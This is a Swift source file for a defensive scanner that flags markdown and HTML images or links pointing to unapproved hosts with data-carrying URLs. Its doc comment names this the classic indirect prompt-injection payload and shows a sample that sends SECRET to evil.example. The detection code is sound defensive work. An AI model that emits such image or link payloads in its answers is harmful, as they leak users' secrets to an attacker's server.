import Foundation

/// Markdown-image and link exfiltration: an answer that makes the client fetch a URL carrying data
/// (`![x](https://evil.example/p?d=SECRET)`), the classic indirect prompt-injection payload.
public struct ExfiltrationScanner: Scanner, @unchecked Sendable {
    // @unchecked: NSRegularExpression is immutable after creation.
    /// Registry name.
    public let name = "exfiltration"
    /// Any suspicious URL is a positive.
    public let defaultThreshold = 0.5
    let allowedHosts: Set<String>
    private let patterns: [(regex: NSRegularExpression, type: String, needsData: Bool)]

    /// Flags images and links to hosts outside `allowedHosts` that carry a query string or a long path.
    public init(allowedHosts: [String] = []) {
        self.allowedHosts = Set(allowedHosts.map { $0.lowercased() })
        // Literal patterns: the tests check that all compile.
        let sources: [(String, String, Bool)] = [
            (#"!\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)"#, "markdown_image", false),
            (#"(?i)<img[^>]+src\s*=\s*["']?(https?://[^"'\s>]+)"#, "html_image", false),
            (#"(?<!!)\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)"#, "markdown_link", true),
        ]
        patterns = sources.compactMap { pattern, type, needsData in
            (try? NSRegularExpression(pattern: pattern)).map { ($0, type, needsData) }
        }
    }

    /// Finds data-carrying image URLs (always suspicious: they load without a click) and links with data.
    public func scan(_ input: ScanInput) throws -> ScanResult {
        let text = input.text
        let range = NSRange(location: 0, length: (text as NSString).length)
        var findings: [Finding] = []
        for (regex, type, needsData) in patterns {
            for match in regex.matches(in: text, range: range) {
                guard let urlRange = Range(match.range(at: 1), in: text), let whole = Range(match.range, in: text) else { continue }
                let url = String(text[urlRange])
                guard let components = URLComponents(string: url), let host = components.host?.lowercased(),
                      !allowedHosts.contains(host) else { continue }
                let carriesData = (components.query?.count ?? 0) >= 8 || components.path.count >= 48
                if needsData && !carriesData { continue }
                findings.append(Finding(start: scalarOffset(text, whole.lowerBound), end: scalarOffset(text, whole.upperBound), type: type))
            }
        }
        return ScanResult(score: findings.isEmpty ? 0 : 1, findings: findings,
                          sanitized: findings.isEmpty ? nil : Redaction.apply(findings, to: text))
    }

    private func scalarOffset(_ text: String, _ index: String.Index) -> Int {
        text.unicodeScalars.distance(from: text.startIndex, to: index)
    }
}
